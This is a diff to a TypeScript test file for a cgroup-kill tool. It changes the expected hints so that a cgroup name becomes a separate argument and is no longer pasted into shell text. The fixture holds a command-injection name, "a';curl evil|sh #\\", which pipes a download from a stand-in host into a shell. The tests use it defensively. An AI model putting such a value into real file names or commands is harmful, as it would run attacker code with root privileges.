@@ -1,5 +1,5 @@
-// Hints are made to be pasted into a root shell, and the names in them are given by whoever made the cgroup: each is one
-// quoted word.
+// What a hint tells to run is an argument vector, and the names in it are given by whoever made the cgroup: each is one
+// argument as it is, and none stands in the prose.
 
 import { expect, test } from "bun:test";
 
@@ -13,9 +13,9 @@ import { DEFAULT_OPTIONS } from "../../src/kill/types.ts";
 import { FakeKernel } from "../support/fake-kernel.ts";
 import { kill, model } from "../support/model.ts";
 
-const EVIL = "a;curl evil|sh";
+const EVIL = "a';curl evil|sh #\\";
 const TOP = "/sys/fs/cgroup/freezer";
-const QUOTED = `'${TOP}/${EVIL}'`;
+const THAW = [["cgkill", "thaw", `${TOP}/${EVIL}`]];
 
 /** A target below a frozen cgroup of that name. */
 function below() {
@@ -35,26 +35,30 @@ test("a survivor that is frozen elsewhere", async () => {
   on.kernel.addProcess({ group: on.target, which: "v2" }).groups.set(on.kernel.hierarchy("freezer"), group);
   on.kernel.failNext("write", /freezer\/cgroup\.procs$/, "EACCES", Number.POSITIVE_INFINITY);
   const { outcome } = await kill(on);
-  expect(outcome.survivors.map(({ hint }) => hint)).toEqual([`thaw it, and it dies: cgkill thaw ${QUOTED}`]);
+  expect(outcome.survivors).toMatchObject([{ hint: "thaw what holds it frozen, and it dies", commands: THAW }]);
+  expect(outcome.error).toMatchObject({ code: "survivors", commands: THAW });
 });
 
 test("a target below a frozen ancestor: refused, where nobody can be moved out", async () => {
   const { kernel, plan } = below();
   kernel.isWritable = () => false;
-  expect((await plan()).refusal?.hint).toStartWith(`thaw it: cgkill thaw ${QUOTED}, or `);
+  expect((await plan()).refusal).toMatchObject({
+    hint: "thaw it, or let it be thawed for the duration of the kill: --thaw-ancestors",
+    commands: THAW,
+  });
 });
 
 test("a thaw below a frozen ancestor", async () => {
   const { kernel, plan, control } = below();
   const { error } = await executeThaw(kernel, await plan(), control);
-  expect(error).toMatchObject({ code: "frozen-ancestor", hint: `cgkill thaw ${QUOTED}` });
+  expect(error).toMatchObject({ code: "frozen-ancestor", hint: "thaw the ancestor", commands: THAW });
 });
 
 test("a cgroup that could not be thawed", async () => {
   const { kernel, plan, control } = below();
   const ctx = newContext(kernel, await plan(), control);
   ctx.record.leftFrozen.add(`${TOP}/${EVIL}`);
-  expect(endingOfKill(ctx, []).error?.hint).toBe(`thaw it: echo THAWED > '${TOP}/${EVIL}/freezer.state'`);
+  expect(endingOfKill(ctx, []).error).toMatchObject({ code: "left-frozen", hint: "thaw it", commands: THAW });
 });
 
 test("a threaded cgroup whose domain has to be named", async () => {
@@ -68,7 +72,8 @@ test("a threaded cgroup whose domain has to be named", async () => {
     openCgroup(kernel, findHierarchies(kernel), `/${EVIL}/target`, { hierarchy: "v2" }),
     DEFAULT_OPTIONS,
   );
-  expect(planned.refusal?.hint).toBe(
-    `name the cgroup that holds all of its threads: '${kernel.hierarchy("v2").point}/${EVIL}'`,
-  );
+  expect(planned.refusal).toMatchObject({
+    hint: "name the cgroup that holds all of its threads",
+    commands: [["cgkill", "show", `${kernel.hierarchy("v2").point}/${EVIL}`]],
+  });
 });
